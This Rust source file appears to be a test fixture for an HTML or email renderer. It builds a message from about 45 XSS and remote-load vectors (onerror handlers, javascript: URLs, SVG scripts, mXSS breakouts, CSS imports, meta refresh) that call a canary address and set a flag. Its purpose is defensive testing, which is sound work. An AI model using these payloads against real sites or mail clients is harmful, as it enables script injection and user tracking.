//! An HTML message that tries everything it can to phone home or to run a script. Knows the ways, not the defences.

use std::net::SocketAddr;

/// What a script of the message would set on every window that it can reach.
pub const FLAG: &str = "__popglass_pwned";

/// The message's HTML. Each way calls at a path of its own, so that a visit says which one got through.
#[must_use]
pub fn html(canary: SocketAddr) -> String {
    let mut body = String::new();
    for (place, way) in WAYS.iter().enumerate() {
        let address = format!("http://{canary}/way-{place}");
        let script = format!(
            "try{{top.{FLAG}={place}}}catch(e){{}};window.{FLAG}={place};new Image().src=&quot;{address}-script&quot;"
        );
        body.push_str(&way.replace("URL", &address).replace("JS", &script));
        body.push_str("\r\n");
    }
    format!("<!doctype html><html><head><title>hello</title></head><body><p>{SENTENCE}</p>\r\n{body}</body></html>\r\n")
}

/// A harmless sentence of the message: once it is shown, the message was rendered.
pub const SENTENCE: &str = "This letter is perfectly harmless.";

/// One line a way in. `URL` becomes an address of the canary, `JS` a script that raises the flag.
pub const WAYS: &[&str] = &[
    r#"<img src="URL">"#,
    r#"<img srcset="URL 1x, URL 2x" src="">"#,
    r#"<picture><source srcset="URL"><img alt="x"></picture>"#,
    r#"<img src="x" onerror="JS">"#,
    r#"<img src="data:image/png;base64,AAAA" onerror="JS">"#,
    r#"<div style="background: url(URL)">x</div>"#,
    r#"<div style="background-image: image-set('URL' 1x); list-style-image: url(URL)">x</div>"#,
    r#"<p style="content: url('URL'); cursor: url('URL'), auto; border-image: url(URL)">x</p>"#,
    r"<style>@import 'URL'; body { background: url(URL) }</style>",
    r"<style>@font-face { font-family: leak; src: url(URL) } * { font-family: leak }</style>",
    r#"<link rel="stylesheet" href="URL">"#,
    r#"<link rel="prefetch" href="URL"><link rel="preload" as="image" href="URL">"#,
    r#"<link rel="preconnect" href="URL"><link rel="dns-prefetch" href="URL">"#,
    r#"<link rel="icon" href="URL"><link rel="modulepreload" href="URL">"#,
    r#"<meta http-equiv="refresh" content="0; url=URL">"#,
    r#"<meta http-equiv="Content-Security-Policy" content="default-src *; script-src * 'unsafe-inline'">"#,
    r#"<base href="URL/">"#,
    r"<script>JS</script>",
    r#"<script src="URL"></script>"#,
    r#"<script type="module">import "URL"; JS</script>"#,
    r#"<svg xmlns="http://www.w3.org/2000/svg" onload="JS"><image href="URL"/></svg>"#,
    r#"<svg><script>JS</script><use href="URL#x"/></svg>"#,
    r#"<svg><animate onbegin="JS" attributeName="x" dur="1s"/><set attributeName="href" to="javascript:JS"/></svg>"#,
    r#"<svg><foreignObject><img src="URL" onerror="JS"></foreignObject></svg>"#,
    r#"<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=JS&gt;">"#,
    r#"<iframe src="URL"></iframe>"#,
    r#"<iframe srcdoc="<script>JS</script><img src='URL'>"></iframe>"#,
    r#"<iframe src="javascript:JS"></iframe>"#,
    r#"<object data="URL"></object><embed src="URL">"#,
    r#"<video src="URL" poster="URL" autoplay></video><audio src="URL" autoplay></audio>"#,
    r#"<video><source src="URL" onerror="JS"></video><track src="URL">"#,
    r#"<form action="URL" id="f"><input name="a" autofocus onfocus="JS"><button formaction="URL">send</button></form>"#,
    r#"<input type="image" src="URL">"#,
    r#"<body background="URL" onload="JS" onpageshow="JS">"#,
    r#"<table background="URL"><tr><td background="URL">x</td></tr></table>"#,
    r#"<a href="javascript:JS" ping="URL">click</a>"#,
    r#"<details open ontoggle="JS"><summary>x</summary></details>"#,
    r#"<marquee onstart="JS">x</marquee>"#,
    r#"<div onmouseover="JS" onfocus="JS" tabindex="0" autofocus>x</div>"#,
    r#"<noscript><p title="</noscript><img src=x onerror=JS>"></noscript>"#,
    r#"<template><img src="URL" onerror="JS"></template><template shadowrootmode="open"><img src="URL"></template>"#,
    r#"<img src="cid:nobody@nowhere" longdesc="URL" lowsrc="URL" dynsrc="URL">"#,
    r#"<portal src="URL"></portal><frameset onload="JS"><frame src="URL"></frameset>"#,
    r#"<a href="data:text/html,<script>JS</script>" target="_top">click</a>"#,
    r#"<xml:namespace><img src=x:x onerror="JS"/></xml:namespace>"#,
];
